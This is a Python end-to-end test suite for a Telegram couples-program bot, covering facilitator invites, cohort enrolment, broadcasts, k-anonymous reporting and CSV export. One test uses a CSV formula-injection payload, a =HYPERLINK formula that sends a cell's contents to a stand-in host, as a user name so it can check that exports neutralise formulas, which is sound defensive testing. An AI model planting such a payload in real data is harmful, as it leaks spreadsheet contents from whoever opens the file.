"""Facilitators and cohorts, end to end: an admin, facilitators and couples on the emulator."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import yaml

from bot import texts
from bot.emulator import FakeBotAPI, FakeUser, SentMessage
from bot.sandbox import Sandbox, sandbox
from content.loader import load_content
from content.schema import CONTENT_DIR, ContentError
from scheduler.clock import ManualClock
from tests.conftest import Picker, invite_link, make_pair, start_user, texts_since

ADMIN = 900


@pytest.fixture
async def box(
    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
) -> AsyncIterator[Sandbox]:
    async with sandbox(db_url, clock=clock, fake=fake, picker=picker, admins=[ADMIN]) as running:
        yield running


def link_in(user: FakeUser) -> str:
    """The newest t.me deep link in the user's chat."""
    return invite_link(user)


async def make_facilitator(box: Sandbox, user_id: int, name: str) -> FakeUser:
    admin = box.fake.user(ADMIN, "Ada")
    await admin.send("/start")
    await admin.send("/facilitator_invite")
    person = box.fake.user(user_id, name)
    await person.open_link(link_in(admin))
    return person


async def new_cohort(fay: FakeUser) -> str:
    """Fay sets up "Spring group" on the shipped program; returns the enrolment link."""
    await fay.send("/cohort_new")
    await fay.send("Spring group")
    await fay.press("Close, not merged")
    await fay.press("Mon 9 Mar")
    await fay.press("Mon")
    await fay.press("Wed")
    await fay.press(texts.BTN_DONE)
    await fay.press("Europe/Berlin")
    await fay.press("Thu")
    await fay.send("18:30")
    assert fay.chat.last.text.startswith("Cohort \u201cSpring group\u201d is set up")
    return link_in(fay)


async def test_an_admin_makes_a_facilitator_with_a_single_use_link(box: Sandbox) -> None:
    stranger = box.fake.user(1500, "Stan")
    await stranger.send("/facilitator_invite")
    assert stranger.chat.last.text == texts.ADMIN_ONLY
    fay = await make_facilitator(box, 800, "Fay")
    assert fay.chat.last.text == texts.FACILITATOR_WELCOME.format(k=5)
    admin = box.fake.user(ADMIN, "Ada")
    assert admin.chat.last.text == texts.FACILITATOR_JOINED_ADMIN.format(name="Fay")
    # Single use: the same link does nothing for someone else.
    gus = box.fake.user(801, "Gus")
    await gus.open_link(link_in(admin))
    assert gus.chat.last.text == texts.FACILITATOR_LINK_USED
    await gus.send("/cohort_new")
    assert gus.chat.last.text == texts.FACILITATOR_ONLY
    await admin.send("/facilitators")
    assert [b.text for row in admin.chat.last.buttons for b in row] == ["Remove Fay"]
    await admin.press("Remove Fay")
    assert fay.chat.last.text == texts.FACILITATOR_REVOKED_YOU
    await fay.send("/cohorts")
    assert fay.chat.last.text == texts.FACILITATOR_ONLY


async def test_a_facilitator_sets_up_a_cohort_in_a_short_conversation(box: Sandbox) -> None:
    fay = await make_facilitator(box, 800, "Fay")
    await fay.send("/cohort_new")
    await fay.send("x")
    assert fay.chat.last.text == texts.COHORT_NAME_BAD
    await fay.send("Spring group")
    assert fay.chat.last.text == texts.COHORT_ASK_PROGRAM
    await fay.press("Close, not merged")
    await fay.send("2026-03-01")  # the day before "today" (Mon 2 Mar)
    assert fay.chat.last.text == texts.COHORT_START_PAST
    await fay.send("next week")
    assert fay.chat.last.text == texts.COHORT_START_BAD
    await fay.send("2026-03-09")
    await fay.press(texts.BTN_DONE)
    assert fay.chat.toasts[-1] == texts.COHORT_DAYS_NONE
    await fay.press("Tue")
    await fay.press(texts.BTN_DONE)
    await fay.send("Lisbon")
    await fay.press(texts.BTN_NO_SESSION)
    created = fay.chat.last.text
    assert "starting Mon 9 Mar, check-ins on Tuesday (Europe/Lisbon" in created
    assert "?start=" in created
    await fay.send("/cohorts")
    assert fay.chat.last.text.startswith("Spring group \u00b7 Close, not merged")


async def test_couples_enrol_each_partner_consenting(box: Sandbox) -> None:
    fay = await make_facilitator(box, 800, "Fay")
    link = await new_cohort(fay)
    alex, sam = await make_pair(box)
    await alex.open_link(link)
    consent = alex.chat.last.text
    assert "Fay invite you to the program \u201cClose, not merged" in consent
    assert "pooled over at least 5 couples" in consent and "never see: your answers" in consent
    await alex.press(texts.BTN_JOIN)
    assert alex.chat.last.text == texts.ENROL_WAITING.format(partner="Sam")
    assert sam.chat.last.text.startswith(texts.ENROL_PARTNER_ASKED.format(name="Alex"))
    await sam.press(texts.BTN_JOIN)
    for user in (alex, sam):
        assert user.chat.last.text.startswith("You're both in: \u201cClose, not merged")
    await sam.send("/cohort")
    assert "Week: starts Mon 9 Mar" in sam.chat.last.text and "Fay" in sam.chat.last.text
    await alex.open_link(link)
    assert alex.chat.last.text.startswith("You're already taking part")

    # An unpaired user gets a pair invite that carries the cohort.
    uma, vic = box.fake.user(1003, "Uma"), box.fake.user(1004, "Vic")
    await start_user(uma, "Berlin")
    await start_user(vic, "Berlin")
    await uma.open_link(link)
    await uma.press(texts.BTN_JOIN)
    assert uma.chat.last.text.startswith("Thanks. The program is for couples")
    await vic.open_link(invite_link(uma))
    await vic.press(texts.INVITE_ACCEPT)
    assert vic.chat.last.text.startswith(texts.ENROL_PARTNER_ASKED.format(name="Uma"))
    await vic.press(texts.BTN_JOIN)
    assert uma.chat.last.text.startswith("You're both in")

    await fay.send("/cohorts")
    await fay.press(texts.BTN_STATUS)
    status = fay.chat.last.text
    assert "Couples enrolled: 2" in status and "Waiting for a partner to accept: 0" in status
    assert "Week: starts Mon 9 Mar" in status


async def test_bad_input_around_cohorts_changes_nothing(box: Sandbox) -> None:
    fay = await make_facilitator(box, 800, "Fay")
    link = await new_cohort(fay)
    gus = await make_facilitator(box, 801, "Gus")
    await gus.send("/cohorts")
    assert gus.chat.last.text == texts.COHORTS_NONE
    await gus.press_data(gus.chat.last.message_id, "co:status:1")
    assert gus.chat.toasts[-1] == texts.COHORT_NOT_YOURS
    await gus.press_data(gus.chat.last.message_id, "co:endyes:1")
    assert gus.chat.toasts[-1] == texts.COHORT_NOT_YOURS
    alex, sam = await make_pair(box)
    await alex.press_data(alex.chat.last.message_id, "ce:1:y")  # never saw the screen
    assert alex.chat.toasts[-1] == texts.ENROL_NOT_OPENED
    await fay.send("/cohorts")
    await fay.press(texts.BTN_PAUSE_COHORT)
    await alex.open_link(link)
    assert alex.chat.last.text == texts.ENROL_PAUSED
    await fay.press(texts.BTN_RESUME_COHORT)
    await alex.open_link(link)
    await alex.press(texts.BTN_JOIN)
    await sam.press(texts.BTN_NOT_JOIN)
    assert alex.chat.last.text == texts.ENROL_DECLINED_PARTNER.format(
        name="Sam", program="Close, not merged: six weeks of interdependence"
    )
    await sam.send("/cohort")
    assert sam.chat.last.text == texts.COHORT_NONE_YOU


async def test_a_couple_leaves_and_the_program_ends(box: Sandbox) -> None:
    fay = await make_facilitator(box, 800, "Fay")
    link = await new_cohort(fay)
    alex, sam = await make_pair(box)
    await alex.open_link(link)
    await alex.press(texts.BTN_JOIN)
    await sam.press(texts.BTN_JOIN)
    await sam.send("/leave_cohort")
    await sam.press(texts.BTN_LEAVE_YES)
    assert sam.chat.last.text.startswith("You've left")
    assert alex.chat.last.text.startswith("Sam took the two of you out of")
    await fay.send("/cohorts")
    await fay.press(texts.BTN_STATUS)
    assert "Couples who left: 1" in fay.chat.last.text

    await alex.open_link(link)
    await alex.press(texts.BTN_JOIN)
    await sam.press(texts.BTN_JOIN)
    await fay.send("/cohorts")
    await fay.press(texts.BTN_END_COHORT)
    await fay.press(texts.BTN_END_YES)
    assert fay.chat.last.text == texts.COHORT_ENDED.format(name="Spring group")
    for user in (alex, sam):
        assert user.chat.last.text.startswith("The program \u201cClose, not merged")
    kim = box.fake.user(1005, "Kim")
    await kim.send("/start")
    await kim.open_link(link)
    assert kim.chat.last.text == texts.ENROL_ENDED


def test_a_program_with_a_week_missing_is_refused(tmp_path: Path) -> None:
    for name in ("questions.yaml", "exercises.yaml"):
        (tmp_path / name).write_text((CONTENT_DIR / name).read_text())
    (tmp_path / "programs").mkdir()
    raw = yaml.safe_load((CONTENT_DIR / "programs" / "interdependence-6w.yaml").read_text())
    raw["schedule"] = raw["schedule"][:5]
    (tmp_path / "programs" / "short.yaml").write_text(yaml.safe_dump(raw))
    with pytest.raises(ContentError) as caught:
        load_content(tmp_path)
    assert str(caught.value) == "programs/short.yaml: declares 6 weeks but week 6 is missing"


def test_the_shipped_program_covers_six_weeks_with_a_check() -> None:
    program = load_content().programs["interdependence-6w"]
    assert program.weeks == 6 == len(program.schedule)
    assert program.week(0).theme.startswith("Self")
    assert program.has_check(0) and program.has_check(5) and not program.has_check(2)
    assert all(w.prep_question for w in program.schedule)


async def test_two_program_weeks_then_the_end(box: Sandbox) -> None:
    fay = await make_facilitator(box, 800, "Fay")
    link = await new_cohort(fay)  # starts Mon 9 Mar; check-ins Mon and Wed; session Thu 18:30
    alex, sam = await make_pair(box)  # daily at 20:00 Berlin until the program starts
    await alex.open_link(link)
    await alex.press(texts.BTN_JOIN)
    await sam.press(texts.BTN_JOIN)
    program = box.runtime.content.programs["interdependence-6w"]
    bank = box.runtime.content.questions

    async def until(when: datetime) -> list[str]:
        before = len(sam.chat.messages)
        await box.run_until(when)
        return texts_since(sam, before)

    # Week 1 opens with the couple's first program round (Monday, at their own 20:00): the
    # facilitator's message and the exercise, then the interdependence check.
    seen = await until(datetime(2026, 3, 9, 18, 30, tzinfo=UTC))
    assert not any(t.startswith("Week 1 of 6") for t in seen)
    seen = await until(datetime(2026, 3, 9, 19, 30, tzinfo=UTC))
    week1 = program.week(0)
    assert seen[0].startswith(f"Week 1 of 6: {week1.theme}")
    asked = [t for t in seen if " of 4 \u00b7 " in t]
    assert len(asked) == 4
    assert all(bank[q].text in "".join(asked) for q in program.check)
    seen = await until(datetime(2026, 3, 10, 19, 30, tzinfo=UTC))  # Tuesday: no round
    assert not any(t.startswith("Check-in") for t in seen)
    seen = await until(datetime(2026, 3, 11, 19, 30, tzinfo=UTC))  # Wednesday
    assert any(bank[week1.questions[0]].text in t for t in seen)
    # The prep question came on Wednesday morning, the day before Thursday's live session.
    assert week1.prep_question is not None
    assert any(t.endswith(week1.prep_question) for t in seen)
    # Week 2.
    seen = await until(datetime(2026, 3, 16, 19, 30, tzinfo=UTC))
    week2 = program.week(1)
    assert any(t.startswith(f"Week 2 of 6: {week2.theme}") for t in seen)
    assert any(bank[week2.questions[0]].text in t for t in seen)
    # After the last week: a closing message, and the pair's own daily schedule again.
    seen = await until(datetime(2026, 4, 20, 8, 0, tzinfo=UTC))
    assert any(t.startswith("The program \u201cClose, not merged") for t in seen)
    seen = await until(datetime(2026, 4, 21, 18, 30, tzinfo=UTC))  # Tuesday: own daily round
    assert any(t.startswith("Check-in \u00b7") for t in seen)


# ---------------------------------------------------------------------------- a whole program


def _answer_buttons(message: SentMessage) -> list[str]:
    return [b.callback_data or "" for row in message.buttons for b in row]


async def answer_everything(user: FakeUser, since: int) -> None:
    """Answer every question the user got since message ``since``: the first option, or a
    sentence for an open question."""
    for message in list(user.chat.messages[since:]):
        data = _answer_buttons(message)
        if not data or not data[-1].endswith(":skip"):
            continue
        if data[0].startswith("w:"):
            await user.press_data(message.message_id, data[0])
            await user.send("A sentence about our week.")
        else:
            await user.press_data(message.message_id, data[0])


async def test_a_whole_program_for_six_couples(box: Sandbox) -> None:
    fay = await make_facilitator(box, 800, "Fay")
    gus = await make_facilitator(box, 801, "Gus")
    link = await new_cohort(fay)
    await fay.send("/cohorts")
    await fay.press(texts.BTN_COFACILITATOR)
    await gus.open_link(link_in(fay))
    assert gus.chat.last.text == texts.COFACILITATOR_JOINED.format(name="Spring group")

    couples: list[tuple[FakeUser, FakeUser]] = []
    for n in range(6):
        a = box.fake.user(2001 + 2 * n, f"A{n}")
        b = box.fake.user(2002 + 2 * n, f"B{n}")
        await start_user(a, "Berlin")
        await start_user(b, "Berlin")
        await a.send("/pair")
        await b.open_link(invite_link(a))
        await b.press(texts.INVITE_ACCEPT)
        await a.open_link(link)
        await a.press(texts.BTN_JOIN)
        await b.press(texts.BTN_JOIN)
        couples.append((a, b))
    await gus.send("/cohorts")
    await gus.press(texts.BTN_STATUS)
    assert "Couples enrolled: 6" in gus.chat.last.text

    async def program_day(when: datetime, answering: int) -> None:
        marks = {u.user_id: len(u.chat.messages) for pair in couples for u in pair}
        await box.run_until(when)
        for a, b in couples[:answering]:
            for user in (a, b):
                await answer_everything(user, marks[user.user_id])

    # Week 1: four couples answer both rounds, two do not.
    await program_day(datetime(2026, 3, 9, 19, 0, tzinfo=UTC), answering=4)
    await program_day(datetime(2026, 3, 11, 19, 0, tzinfo=UTC), answering=4)
    # Week 2: five couples answer; the sixth misses a second week.
    await program_day(datetime(2026, 3, 16, 19, 0, tzinfo=UTC), answering=5)
    assert any(t.startswith("Week 2 of 6") for t in couples[0][0].chat.texts())
    await fay.send("/cohorts")
    await fay.press(texts.BTN_STATUS)
    below = fay.chat.last.text
    assert texts.STATUS_AGGREGATES_HIDDEN.format(k=5) in below  # week 1 had 4 < K couples
    assert "pooled over" not in below and "differences by topic" not in below
    assert "This week:" in below and "A0 & B0: 1/1" in below
    await program_day(datetime(2026, 3, 18, 19, 0, tzinfo=UTC), answering=5)

    # A broadcast with one partner who has blocked Tandem.
    await couples[4][1].block()
    await fay.send("/cohorts")
    await fay.press(texts.BTN_BROADCAST)
    await fay.send("See you on *Thursday*, <b>bring</b> a notebook!")
    assert fay.chat.last.text.startswith("Preview: this goes to 12 people")
    await fay.press(texts.BTN_SEND)
    await box.run_until(box.clock.now() + timedelta(minutes=2))
    got = couples[0][0].chat.last
    assert got.text == "See you on *Thursday*, <b>bring</b> a notebook!" and got.parse_mode is None
    assert fay.chat.last.text == texts.BROADCAST_REPORT.format(
        name="Spring group", delivered=11, blocked=1, not_started=0
    )

    # Week 2 is frozen on Monday of week 3: five couples, so pooled figures appear.
    await box.run_until(datetime(2026, 3, 23, 9, 0, tzinfo=UTC))
    await fay.send("/cohorts")
    await fay.press(texts.BTN_STATUS)
    above = fay.chat.last.text
    assert "Week 2: differences by topic (only topics at least 5 couples answered)" in above
    assert "across 5 couples" in above
    assert "A5 & B5: 0/" in above and texts.STATUS_FLAG in above.split("A5 & B5")[1]
    assert texts.STATUS_FLAG not in above.split("A5 & B5")[0]

    await fay.press(texts.BTN_EXPORT)
    export = fay.chat.last
    assert export.document is not None and export.file_name == "cohort-1.csv"
    rows = list(csv.reader(io.StringIO(export.document.decode("utf-8-sig"))))
    assert rows[0] == ["kind", "week", "subject", "value", "value_2"]
    assert ["participation", "1", "A0 & B0", "2", "2"] in rows
    assert ["participation", "1", "A5 & B5", "0", "2"] in rows
    weeks_with_figures = {r[1] for r in rows if r[0] == "differences"}
    assert weeks_with_figures == {"2"}  # week 1 had fewer than K couples

    # A couple leaves; the facilitators see only that.
    await couples[3][0].send("/leave_cohort")
    await couples[3][0].press(texts.BTN_LEAVE_YES)
    await gus.send("/cohorts")
    await gus.press(texts.BTN_STATUS)
    assert "Couples who left: 1" in gus.chat.last.text

    # The program ends after six weeks: a closing message, own schedules again.
    await box.run_until(datetime(2026, 4, 20, 9, 0, tzinfo=UTC))
    closing = "The program \u201cClose, not merged"
    assert couples[0][0].chat.texts()[-1].startswith(closing) or any(
        t.startswith(closing) for t in couples[0][0].chat.texts()[-3:]
    )
    assert not any(t.startswith(closing) for t in couples[3][0].chat.texts())
    await fay.send("/cohorts")
    assert "ended" in fay.chat.texts()[-1]


async def test_one_cohort_at_a_time_and_one_broadcast_at_a_time(box: Sandbox) -> None:
    fay = await make_facilitator(box, 800, "Fay")
    first = await new_cohort(fay)
    second = await new_cohort(fay)
    alex, sam = await make_pair(box)
    await alex.open_link(first)
    await alex.press(texts.BTN_JOIN)
    await sam.press(texts.BTN_JOIN)
    await sam.open_link(second)
    assert sam.chat.last.text == texts.ENROL_OTHER_COHORT.format(
        program="Close, not merged: six weeks of interdependence"
    )
    # Two broadcasts to the first cohort: the second waits for the first one's report.
    await fay.send("/cohorts")
    cohort_one = fay.chat.messages[-1]  # newest first: the first cohort is listed last
    await fay.press_data(cohort_one.message_id, "co:broadcast:1")
    await fay.send("First note")
    await fay.press(texts.BTN_SEND)
    await fay.press_data(cohort_one.message_id, "co:broadcast:1")
    assert fay.chat.last.text == texts.BROADCAST_BUSY
    await box.run_until(box.clock.now() + timedelta(minutes=1))
    assert fay.chat.last.text.startswith("Broadcast to \u201cSpring group\u201d: delivered: 2")
    await fay.press_data(cohort_one.message_id, "co:broadcast:1")
    assert fay.chat.last.text.startswith("Write the message")


async def test_help_lists_facilitator_and_admin_commands_only_to_them(box: Sandbox) -> None:
    fay = await make_facilitator(box, 800, "Fay")
    await fay.send("/help")
    assert "/cohort_new" in fay.chat.last.text and "/facilitator_invite" not in fay.chat.last.text
    admin = box.fake.user(ADMIN, "Ada")
    await admin.send("/help")
    assert "/facilitator_invite" in admin.chat.last.text
    someone = box.fake.user(1600, "Sol")
    await someone.send("/help")
    assert "/cohort_new" not in someone.chat.last.text and "/cohort " in someone.chat.last.text


async def test_the_interdependence_check_before_and_after_with_k_couples(
    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
) -> None:
    async with sandbox(
        db_url, clock=clock, fake=fake, picker=picker, admins=[ADMIN], min_pairs=3
    ) as box:
        fay = await make_facilitator(box, 800, "Fay")
        link = await new_cohort(fay)
        couples = []
        for n in range(3):
            a, b = box.fake.user(3001 + 2 * n, f"C{n}"), box.fake.user(3002 + 2 * n, f"D{n}")
            await start_user(a, "Berlin")
            await start_user(b, "Berlin")
            await a.send("/pair")
            await b.open_link(invite_link(a))
            await b.press(texts.INVITE_ACCEPT)
            await a.open_link(link)
            await a.press(texts.BTN_JOIN)
            await b.press(texts.BTN_JOIN)
            couples.append((a, b))

        async def check_day(when: datetime) -> None:
            marks = {u.user_id: len(u.chat.messages) for pair in couples for u in pair}
            await box.run_until(when)
            box.clock.set(when)
            await box.tick()
            for a, b in couples:
                for user in (a, b):
                    await answer_everything(user, marks[user.user_id])

        await check_day(datetime(2026, 3, 9, 19, 0, tzinfo=UTC))  # week 1: the check
        await check_day(datetime(2026, 4, 13, 19, 0, tzinfo=UTC))  # week 6: the check again
        await box.advance(datetime(2026, 4, 20, 9, 0, tzinfo=UTC) - box.clock.now())
        await fay.send("/cohorts")
        await fay.press(texts.BTN_STATUS)
        status = fay.chat.last.text
        assert texts.STATUS_CHECK in status
        program = box.runtime.content.programs["interdependence-6w"]
        assert status.count("\u2192") >= len(program.check)
        await fay.press(texts.BTN_EXPORT)
        document = fay.chat.last.document
        assert document is not None
        rows = list(csv.reader(io.StringIO(document.decode("utf-8-sig"))))
        assert {r[2] for r in rows if r[0] == "check"} == set(program.check)


# ---------------------------------------------------------------------------- review fixes


async def enrol_couples(
    box: Sandbox, link: str, count: int, first_id: int = 4001, zone: str = "Berlin"
) -> list[tuple[FakeUser, FakeUser]]:
    couples = []
    for n in range(count):
        a = box.fake.user(first_id + 2 * n, f"E{n}")
        b = box.fake.user(first_id + 1 + 2 * n, f"F{n}")
        await start_user(a, zone)
        await start_user(b, zone)
        await a.send("/pair")
        await b.open_link(invite_link(a))
        await b.press(texts.INVITE_ACCEPT)
        await a.open_link(link)
        await a.press(texts.BTN_JOIN)
        await b.press(texts.BTN_JOIN)
        couples.append((a, b))
    return couples


async def pass_everything(user: FakeUser, since: int) -> None:
    """Keep every question since message ``since`` private."""
    for message in list(user.chat.messages[since:]):
        data = _answer_buttons(message)
        if data and data[-1].endswith(":skip"):
            await user.press_data(message.message_id, data[-1])


async def test_a_figure_needs_k_couples_who_answered_it_not_counting_the_viewers_own(
    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
) -> None:
    settings = {"admins": [ADMIN], "min_pairs": 3}
    async with sandbox(db_url, clock=clock, fake=fake, picker=picker, **settings) as box:
        fay = await make_facilitator(box, 800, "Fay")
        gus = await make_facilitator(box, 801, "Gus")
        link = await new_cohort(fay)
        await fay.send("/cohorts")
        await fay.press(texts.BTN_COFACILITATOR)
        await gus.open_link(link_in(fay))
        couples = await enrol_couples(box, link, 3)
        marks = {u.user_id: len(u.chat.messages) for pair in couples for u in pair}
        await box.run_until(datetime(2026, 3, 9, 19, 0, tzinfo=UTC))
        # Only the first couple answers the check; the others keep every answer private.
        for index, (a, b) in enumerate(couples):
            for user in (a, b):
                mark = marks[user.user_id]
                await (answer_everything if index == 0 else pass_everything)(user, mark)
        await box.advance(datetime(2026, 3, 16, 9, 0, tzinfo=UTC) - box.clock.now())
        await fay.send("/cohorts")
        await fay.press(texts.BTN_STATUS)
        status = fay.chat.last.text
        assert texts.STATUS_AGGREGATES_HIDDEN.format(k=3) in status
        assert "across" not in status and "\u2192" not in status.split("Couples who completed")[1]
        await fay.press(texts.BTN_EXPORT)
        assert fay.chat.last.document is not None
        rows = list(csv.reader(io.StringIO(fay.chat.last.document.decode("utf-8-sig"))))
        assert not [r for r in rows if r[0] in ("differences", "check")]
        # Not because nobody was asked: all three couples had the check round.
        assert len([r for r in rows if r[0] == "participation" and r[1] == "1"]) == 3


async def test_staff_couples_do_not_count_towards_k_for_anyone(
    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
) -> None:
    settings = {"admins": [ADMIN], "min_pairs": 3}
    async with sandbox(db_url, clock=clock, fake=fake, picker=picker, **settings) as box:
        fay = await make_facilitator(box, 800, "Fay")
        gus = await make_facilitator(box, 801, "Gus")
        link = await new_cohort(fay)
        await fay.send("/cohorts")
        await fay.press(texts.BTN_COFACILITATOR)
        await gus.open_link(link_in(fay))
        # Fay takes part herself, with her partner, beside three other couples.
        pat = box.fake.user(802, "Pat")
        await start_user(pat, "Berlin")
        await fay.send("/timezone Berlin")
        await fay.send("/pair")
        await pat.open_link(invite_link(fay))
        await pat.press(texts.INVITE_ACCEPT)
        await fay.open_link(link)
        await fay.press(texts.BTN_JOIN)
        await pat.press(texts.BTN_JOIN)
        others = await enrol_couples(box, link, 3)
        couples = [(fay, pat), *others]
        marks = {u.user_id: len(u.chat.messages) for pair in couples for u in pair}
        await box.run_until(datetime(2026, 3, 9, 19, 0, tzinfo=UTC))
        for a, b in couples:
            for user in (a, b):
                await answer_everything(user, marks[user.user_id])
        await box.advance(datetime(2026, 3, 16, 9, 0, tzinfo=UTC) - box.clock.now())
        views = []
        for viewer in (fay, gus):
            await viewer.send("/cohorts")
            await viewer.press(texts.BTN_STATUS)
            views.append(viewer.chat.last.text.split("Couples who completed")[1])
        # Four couples answered, three besides Fay's own: enough (K = 3) for both of them,
        # and the same view for both (staff couples never count towards K for anyone).
        assert "across 4 couples" in views[0]
        assert views[0] == views[1]


async def test_a_couple_that_moves_cohorts_counts_only_where_it_answered(box: Sandbox) -> None:
    fay = await make_facilitator(box, 800, "Fay")
    first = await new_cohort(fay)
    second = await new_cohort(fay)
    alex, sam = await make_pair(box)
    await alex.open_link(first)
    await alex.press(texts.BTN_JOIN)
    await sam.press(texts.BTN_JOIN)
    marks = {u.user_id: len(u.chat.messages) for u in (alex, sam)}
    await box.run_until(datetime(2026, 3, 9, 19, 0, tzinfo=UTC))
    for user in (alex, sam):
        await answer_everything(user, marks[user.user_id])
    await alex.send("/leave_cohort")
    await alex.press(texts.BTN_LEAVE_YES)
    await alex.open_link(second)
    await alex.press(texts.BTN_JOIN)
    await sam.press(texts.BTN_JOIN)
    marks = {u.user_id: len(u.chat.messages) for u in (alex, sam)}
    await box.run_until(datetime(2026, 3, 11, 19, 0, tzinfo=UTC))
    for user in (alex, sam):
        await answer_everything(user, marks[user.user_id])
    await box.run_until(datetime(2026, 3, 16, 9, 0, tzinfo=UTC))
    await fay.send("/cohorts")
    exported = {}
    for message in fay.chat.messages[-2:]:  # newest cohort first
        await fay.press_data(
            message.message_id, f"co:export:{2 if message is fay.chat.messages[-2] else 1}"
        )
        document = fay.chat.last.document
        assert document is not None
        rows = list(csv.reader(io.StringIO(document.decode("utf-8-sig"))))
        exported[fay.chat.last.text] = [r for r in rows if r[0] == "participation"]
    # Each cohort counts only the round it asked: the check in the first, one question in
    # the second (which, asking its own first round, started with the check too).
    assert all(len(rows) == 1 and rows[0][4] == "1" for rows in exported.values())


async def test_consent_from_an_earlier_pair_does_not_carry_over(box: Sandbox) -> None:
    fay = await make_facilitator(box, 800, "Fay")
    link = await new_cohort(fay)
    alex, _sam = await make_pair(box)
    await alex.open_link(link)
    await alex.press(texts.BTN_JOIN)  # Sam never answers
    await alex.send("/unpair")
    await alex.press(texts.UNPAIR_YES)
    eve = box.fake.user(1010, "Eve")
    await start_user(eve, "Berlin")
    await alex.send("/pair")
    await eve.open_link(invite_link(alex))
    await eve.press(texts.INVITE_ACCEPT)
    await eve.open_link(link)
    await eve.press(texts.BTN_JOIN)
    assert eve.chat.last.text == texts.ENROL_WAITING.format(partner="Alex")
    assert alex.chat.last.text.startswith(texts.ENROL_PARTNER_ASKED.format(name="Eve"))


async def test_the_export_never_hands_a_spreadsheet_a_formula(box: Sandbox) -> None:
    fay = await make_facilitator(box, 800, "Fay")
    link = await new_cohort(fay)
    mal = box.fake.user(1020, '=HYPERLINK("http://x.example/?"&A1,"x")')
    kit = box.fake.user(1021, "Kit")
    await start_user(mal, "Berlin")
    await start_user(kit, "Berlin")
    await mal.send("/pair")
    await kit.open_link(invite_link(mal))
    await kit.press(texts.INVITE_ACCEPT)
    await mal.open_link(link)
    await mal.press(texts.BTN_JOIN)
    await kit.press(texts.BTN_JOIN)
    await box.run_until(datetime(2026, 3, 16, 9, 0, tzinfo=UTC))
    await fay.send("/cohorts")
    await fay.press(texts.BTN_EXPORT)
    document = fay.chat.last.document
    assert document is not None
    rows = list(csv.reader(io.StringIO(document.decode("utf-8-sig"))))
    names = [r[2] for r in rows if r[0] == "participation"]
    assert names and all(not n.startswith(("=", "+", "-", "@")) for n in names)


async def test_cancel_stops_a_cohort_set_up_and_drafts_are_their_authors(box: Sandbox) -> None:
    fay = await make_facilitator(box, 800, "Fay")
    await fay.send("/cohort_new")
    await fay.send("Half done")
    await fay.send("/cancel")
    await fay.press("Close, not merged")
    assert fay.chat.toasts[-1] == texts.COHORT_DRAFT_GONE
    await fay.send("/cohorts")
    assert fay.chat.last.text == texts.COHORTS_NONE

    link = await new_cohort(fay)
    await enrol_couples(box, link, 1)
    gus = await make_facilitator(box, 801, "Gus")
    await fay.send("/cohorts")
    await fay.press(texts.BTN_COFACILITATOR)
    await gus.open_link(link_in(fay))
    await fay.send("/cohorts")
    await fay.press(texts.BTN_BROADCAST)
    await fay.send("Draft, not yet")
    draft = fay.chat.last.buttons[0][0].callback_data
    assert draft is not None
    await gus.press_data(gus.chat.last.message_id, draft)
    assert gus.chat.toasts[-1] == texts.BUTTON_NOT_YOURS
    admin = box.fake.user(ADMIN, "Ada")
    await admin.send("/cohorts")  # admins see every cohort
    assert admin.chat.messages[-1].text.startswith("Spring group")


async def test_weeks_missed_during_downtime_are_still_frozen(
    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
) -> None:
    settings = {"admins": [ADMIN], "min_pairs": 3}
    async with sandbox(db_url, clock=clock, fake=fake, picker=picker, **settings) as box:
        fay = await make_facilitator(box, 800, "Fay")
        link = await new_cohort(fay)
        couples = await enrol_couples(box, link, 3)
        marks = {u.user_id: len(u.chat.messages) for pair in couples for u in pair}
        await box.run_until(datetime(2026, 3, 9, 19, 0, tzinfo=UTC))
        for a, b in couples:
            for user in (a, b):
                await answer_everything(user, marks[user.user_id])
        box.clock.set(datetime(2026, 3, 24, 12, 0, tzinfo=UTC))  # down for two week boundaries
        await box.tick()
        await fay.send("/cohorts")
        await fay.press(texts.BTN_EXPORT)
        assert fay.chat.last.document is not None
        rows = list(csv.reader(io.StringIO(fay.chat.last.document.decode("utf-8-sig"))))
        assert {r[1] for r in rows if r[0] == "participation"} == {"1"}
        assert [r for r in rows if r[0] == "differences" and r[1] == "1"]  # frozen, K couples


async def test_a_couple_far_away_checks_in_on_the_program_days_of_its_own_calendar(
    box: Sandbox,
) -> None:
    fay = await make_facilitator(box, 800, "Fay")
    link = await new_cohort(fay)  # Berlin; Mondays and Wednesdays from Mon 9 Mar
    (a, _b) = (await enrol_couples(box, link, 1, zone="New York"))[0]
    before = len(a.chat.messages)
    await box.run_until(datetime(2026, 3, 10, 4, 0, tzinfo=UTC))
    seen = texts_since(a, before)
    days = [m for m in a.chat.messages[before:] if " of 4 \u00b7 " in m.text]
    assert days, seen
    # The check came on Monday 9 March at 20:00 New York time (00:00 UTC on the 10th).
    assert all(m.date == int(datetime(2026, 3, 10, 0, 0, tzinfo=UTC).timestamp()) for m in days)
